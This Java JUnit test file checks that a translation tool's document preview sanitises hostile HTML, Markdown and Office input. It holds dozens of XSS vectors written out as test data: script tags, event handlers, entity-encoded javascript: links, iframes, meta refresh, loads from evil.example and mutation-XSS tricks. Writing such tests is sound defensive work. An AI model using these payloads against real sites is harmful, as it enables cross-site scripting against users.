package org.chorus.translations.preview;

import static org.chorus.translations.preview.PreviewFixtures.root;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.chorus.translations.DocumentFormat;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile documents come out inert: nothing that runs, loads, submits, navigates by itself or
 * reaches the page around the preview. Each vector goes through the whole path (Okapi's filter, the
 * merge, the view) and, for HTML, also straight into the view, so that the allow-list is tested on
 * the markup as written and not only as Okapi rewrites it.
 */
class HostilePreviewTest {

  private static final Set<String> TAGS =
      Set.of(
          ("p div span h1 h2 h3 h4 h5 h6 br hr b strong i em u s del ins sub sup "
                  + "small mark code pre kbd samp var q blockquote cite abbr dfn ul ol li "
                  + "dl dt dd table caption thead tbody tfoot tr th td col colgroup a img "
                  + "address bdi bdo ruby rt rp wbr time")
              .split(" "));
  private static final Set<String> CLASSES =
      Set.of(
          ("seg seg-untranslated doc-preview doc-title doc-header doc-body "
                  + "doc-notes doc-note doc-footer doc-image doc-textbox doc-units")
              .split(" "));
  private static final Map<String, Set<String>> ATTRIBUTES =
      Map.of(
          "a", Set.of("href", "target", "rel"),
          "span", Set.of("data-key"),
          "div", Set.of("data-mode"),
          "td", Set.of("colspan", "rowspan"),
          "th", Set.of("colspan", "rowspan"),
          "col", Set.of("span"),
          "colgroup", Set.of("span"),
          "ol", Set.of("start", "reversed", "type"),
          "li", Set.of("value"),
          "img", Set.of("src", "alt"));
  private static final Set<String> GLOBAL = Set.of("class", "lang", "dir", "title", "style");
  private static final Pattern LINK = Pattern.compile("(https?://|mailto:|tel:)[^\\s\"'<>`]*");
  private static final Pattern PICTURE =
      Pattern.compile("data:image/(png|gif|jpeg|webp);base64,[A-Za-z0-9+/]+=*");
  private static final Pattern STYLE =
      Pattern.compile(
          "(text-align|font-weight|font-style|text-decoration|text-decoration-line|vertical-align)"
              + ": [a-z0-9 -]+(; (text-align|font-weight|font-style|text-decoration"
              + "|text-decoration-line|vertical-align): [a-z0-9 -]+)*");
  private static final List<String> NEVER =
      List.of(
          ("<script <style <iframe <frame <object <embed <applet <svg <math "
                  + "<meta <base <link <form <input <button <textarea <select <template "
                  + "<noscript <xmp <plaintext <noembed <video <audio <source <isindex "
                  + "<details")
              .split(" "));

  private final DocumentPreview preview = new DocumentPreview();

  static Stream<Arguments> htmlVectors() {
    return Stream.of(
        Arguments.of("script", "<script>alert(1)</script>"),
        Arguments.of("script from elsewhere", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>"),
        Arguments.of("script split by a script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
        Arguments.of("img onerror", "<img src=x onerror=alert(1)>"),
        Arguments.of("img onerror with entities", "<img src=x onerror=\"&#97;lert(1)\">"),
        Arguments.of("svg onload", "<svg onload=alert(1)><circle r=1 /></svg>"),
        Arguments.of("script in svg", "<svg><script>alert(1)</script></svg>"),
        Arguments.of("body onload", "<body onload=alert(1)>"),
        Arguments.of("javascript: link", "<a href=\"javascript:alert(1)\">Click the link.</a>"),
        Arguments.of("mixed-case scheme", "<a href=\"JaVaScRiPt:alert(1)\">Mixed case.</a>"),
        Arguments.of(
            "decimal entities",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">"
                + "Encoded.</a>"),
        Arguments.of(
            "hex entities without semicolons",
            "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">Hex.</a>"),
        Arguments.of("tab in the scheme", "<a href=\"jav&#x09;ascript:alert(1)\">Tab.</a>"),
        Arguments.of("newline in the scheme", "<a href=\"java\nscript:alert(1)\">Newline.</a>"),
        Arguments.of("control before", "<a href=\" &#14;  javascript:alert(1)\">Control.</a>"),
        Arguments.of(
            "data: page",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">Data.</a>"),
        Arguments.of("vbscript", "<a href=\"vbscript:msgbox(1)\">Basic.</a>"),
        Arguments.of("iframe", "<iframe src=\"https://evil.example/\"></iframe>"),
        Arguments.of("iframe srcdoc", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"),
        Arguments.of(
            "object and embed",
            "<object data=\"https://evil.example/x.swf\"></object>"
                + "<embed src=\"https://evil.example/x.swf\">"),
        Arguments.of(
            "form",
            "<form action=\"https://evil.example/\"><input name=\"q\" value=\"x\">"
                + "<button formaction=\"javascript:alert(1)\">Send the form.</button></form>"),
        Arguments.of("css expression", "<div style=\"width: expression(alert(1))\">Styled.</div>"),
        Arguments.of(
            "css url",
            "<p style=\"background:url(javascript:alert(1)); text-align: center\">Styled again.</p>"),
        Arguments.of(
            "style element",
            "<style>@import 'https://evil.example/x.css'; body{background:url(x)}</style>"),
        Arguments.of(
            "css behaviour and binding",
            "<p style=\"behavior: url(x.htc); -moz-binding: url(x.xml#x)\">Old browsers.</p>"),
        Arguments.of("base", "<base href=\"https://evil.example/\">"),
        Arguments.of(
            "meta refresh",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"),
        Arguments.of(
            "link to a style sheet",
            "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">"),
        Arguments.of("broken quotes", "<img \"\"\"><script>alert(1)</script>\">"),
        Arguments.of("double angle", "<<script>alert(1);//<</script>"),
        Arguments.of(
            "title that closes", "<p title=\"</p><script>alert(1)</script>\">Quoted title.</p>"),
        Arguments.of("unclosed tag", "<a href=\"javascript:alert(1)\" <b>Unclosed tag.</b>"),
        Arguments.of(
            "remote picture",
            "<img src=\"https://tracker.example/pixel.gif\" alt=\"A tracking pixel\">"),
        Arguments.of(
            "svg picture",
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" alt=\"Vector\">"),
        Arguments.of(
            "srcset",
            "<img src=\"data:image/png;base64,iVBORw0KGgo=\""
                + " srcset=\"https://tracker.example/a.png 2x\" alt=\"Two sizes\">"),
        Arguments.of(
            "math and style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
        Arguments.of(
            "noscript title", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
        Arguments.of("template", "<template><script>alert(1)</script></template>"),
        Arguments.of(
            "forged segment and page id",
            "<span class=\"seg doc-preview\" data-key=\"0000000000000000\" id=\"editor\">"
                + "Forged span.</span>"),
        Arguments.of("upper-case handler", "<p ONMOUSEOVER=\"alert(1)\">Mouse over.</p>"),
        Arguments.of("xmp", "<xmp><script>alert(1)</script></xmp>"),
        Arguments.of("frameset", "<frameset><frame src=\"javascript:alert(1)\"></frameset>"),
        Arguments.of("isindex", "<isindex action=javascript:alert(1) type=image>"),
        Arguments.of("media", "<video><source onerror=\"alert(1)\"></video>"),
        Arguments.of("details ontoggle", "<details open ontoggle=alert(1)>Details.</details>"),
        Arguments.of(
            "good link with handlers",
            "<a href=\"https://ok.example/\" target=\"_self\" onclick=\"alert(1)\""
                + " ping=\"https://tracker.example/\">Good link.</a>"),
        Arguments.of(
            "quote in a link",
            "<a href=\"https://ok.example/&quot;onmouseover=&quot;x\">Quote.</a>"),
        Arguments.of("forged marks", "<p>Forged \uFDD0\uDB80\uDC05mark\uFDD1 here.</p>"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("htmlVectors")
  void hostileHtmlComesOutInert(String name, String vector) {
    byte[] document =
        ("<!DOCTYPE html><html><head><title>Urgent Action</title></head><body>"
                + "<p>Before the vector.</p>"
                + vector
                + "<p>After the vector.</p></body></html>")
            .getBytes(StandardCharsets.UTF_8);
    Preview whole =
        preview.source(new SourceDocument(document, DocumentFormat.HTML, Locale.ENGLISH, Set.of()));
    assertInert(whole.html());
    // some vectors swallow what follows them, as they would in a browser
    assertTrue(root(whole.html()).text().contains("Before the vector."));

    PreviewHtml direct = new PreviewHtml(List.of(), Locale.ENGLISH, null);
    new HtmlView().write(document, direct);
    assertInert(direct.html());
  }

  @Test
  void thePageHeadLoadsAndRedirectsNothing() {
    byte[] document =
        ("<html><head><base href=\"https://evil.example/\">"
                + "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"
                + "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">"
                + "<style>body{background:url(https://tracker.example/x.png)}</style>"
                + "<script>alert(1)</script><title>Urgent Action</title></head>"
                + "<body><p>Write today.</p></body></html>")
            .getBytes(StandardCharsets.UTF_8);
    Preview p =
        preview.source(new SourceDocument(document, DocumentFormat.HTML, Locale.ENGLISH, Set.of()));
    assertInert(p.html());
    assertEquals("Urgent Action Write today.", root(p.html()).text());
  }

  @Test
  void whatMayStayStaysSafe() {
    Element root =
        root(
            preview
                .source(
                    html(
                        "<p style=\"background:url(javascript:alert(1)); text-align: center\">"
                            + "Styled again.</p>"
                            + "<p><a href=\"https://ok.example/\" target=\"_self\" onclick=\"x\">"
                            + "Good link.</a></p>"
                            + "<p><img src=\"https://tracker.example/pixel.gif\""
                            + " alt=\"A tracking pixel\"></p>"
                            + "<p><a href=\"javascript:alert(1)\">Click the link.</a></p>"
                            + "<p><span class=\"seg\" data-key=\"0000000000000000\" id=\"editor\">"
                            + "Forged span.</span></p>"))
                .html());
    assertEquals("text-align: center", root.selectFirst("p:contains(Styled again)").attr("style"));
    Element good = root.selectFirst("a:contains(Good link)");
    assertEquals("https://ok.example/", good.attr("href"));
    assertEquals("_blank", good.attr("target"));
    assertEquals("noopener noreferrer nofollow", good.attr("rel"));
    assertEquals("A tracking pixel", root.selectFirst("span.doc-image").text());
    assertNull(root.selectFirst("img"));
    Element bad = root.selectFirst("a:contains(Click the link)");
    assertFalse(bad.hasAttr("href"), "the link stays text");
    Element forged = root.selectFirst("span:containsOwn(Forged span)");
    assertFalse(forged.hasAttr("id"));
    assertFalse(forged.hasAttr("data-key") && forged.attr("data-key").equals("0000000000000000"));
  }

  static Stream<Arguments> markdownVectors() {
    return Stream.of(
        Arguments.of("javascript: link", "[Click the link.](javascript:alert(1))"),
        Arguments.of("mixed-case scheme", "[Mixed case.](JaVaScRiPt:alert(1))"),
        Arguments.of("autolink", "Go to <javascript:alert(1)> now."),
        Arguments.of("reference link", "[Reference.][r]\n\n[r]: javascript:alert(1)"),
        Arguments.of("data: link", "[Data.](data:text/html;base64,PHNjcmlwdD4=)"),
        Arguments.of("remote picture", "![A tracking pixel](https://tracker.example/pixel.gif)"),
        Arguments.of("script block", "<script>alert(1)</script>"),
        Arguments.of("inline handler", "An <img src=x onerror=alert(1)> inline picture."),
        Arguments.of("iframe", "<iframe src=\"https://evil.example/\"></iframe>"),
        Arguments.of("style attribute", "<p style=\"width: expression(alert(1))\">Styled.</p>"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("markdownVectors")
  void hostileMarkdownComesOutInert(String name, String vector) {
    byte[] md =
        ("# Urgent Action\n\nBefore the vector.\n\n" + vector + "\n\nAfter the vector.\n")
            .getBytes(StandardCharsets.UTF_8);
    Preview p =
        preview.source(new SourceDocument(md, DocumentFormat.MARKDOWN, Locale.ENGLISH, Set.of()));
    assertInert(p.html());
    assertTrue(root(p.html()).text().contains("After the vector."));
  }

  @Test
  void hostileOfficeDocumentsComeOutInert() {
    Preview docx =
        preview.source(
            new SourceDocument(
                OfficeFixtures.followUpDocx(
                    "javascript:alert(1)",
                    OfficeFixtures.paragraph("&lt;script&gt;alert(1)&lt;/script&gt;")),
                DocumentFormat.DOCX,
                Locale.ENGLISH,
                Set.of()));
    assertInert(docx.html());
    Element word = root(docx.html());
    assertFalse(word.selectFirst("a:contains(Read the report)").hasAttr("href"));
    assertNotNull(word.selectFirst("span.doc-image"), "the linked picture is not loaded");
    assertTrue(word.text().contains("<script>alert(1)</script>"), "text, not markup");

    Preview odt =
        preview.source(
            new SourceDocument(
                OfficeFixtures.followUpOdt(
                    "javascript:alert(1)", "https://tracker.example/pixel.png"),
                DocumentFormat.ODT,
                Locale.ENGLISH,
                Set.of()));
    assertInert(odt.html());
    Element open = root(odt.html());
    assertFalse(open.selectFirst("a:contains(Read the report)").hasAttr("href"));
    assertNull(open.selectFirst("img"));
  }

  /** Only allowed elements and attributes, safe values, none of our marks. */
  static void assertInert(String html) {
    String lower = html.toLowerCase(Locale.ROOT);
    for (String tag : NEVER) {
      assertFalse(lower.contains(tag), tag + " in " + html);
    }
    html.codePoints()
        .filter(c -> c >= 0xFDD0 && c <= 0xFDEF)
        .findFirst()
        .ifPresent(c -> fail("a mark is left: U+" + Integer.toHexString(c)));
    Element root = root(html);
    for (Element e : root.select("*")) {
      assertTrue(TAGS.contains(e.normalName()), e.normalName() + " in " + html);
      for (Attribute a : e.attributes()) {
        String name = a.getKey();
        assertTrue(
            GLOBAL.contains(name)
                || ATTRIBUTES.getOrDefault(e.normalName(), Set.of()).contains(name),
            name + " on " + e.normalName() + " in " + html);
        String value = a.getValue();
        switch (name) {
          case "href" -> assertTrue(LINK.matcher(value).matches(), value);
          case "src" -> assertTrue(PICTURE.matcher(value).matches(), value);
          case "style" -> assertTrue(STYLE.matcher(value).matches(), value);
          case "class" -> assertTrue(CLASSES.containsAll(List.of(value.split(" "))), value);
          case "data-key" -> assertTrue(value.matches("[0-9a-f]{16}(-\\d+)?"), value);
          case "target" -> assertEquals("_blank", value);
          default -> {}
        }
      }
    }
    assertEquals(
        Jsoup.parseBodyFragment(html).body().html().replaceAll("\\s+", ""),
        Jsoup.parseBodyFragment(Jsoup.parseBodyFragment(html).body().html())
            .body()
            .html()
            .replaceAll("\\s+", ""),
        "the fragment reads the same when read again");
  }

  private static SourceDocument html(String body) {
    return new SourceDocument(
        ("<html><body>" + body + "</body></html>").getBytes(StandardCharsets.UTF_8),
        DocumentFormat.HTML,
        Locale.ENGLISH,
        Set.of());
  }
}
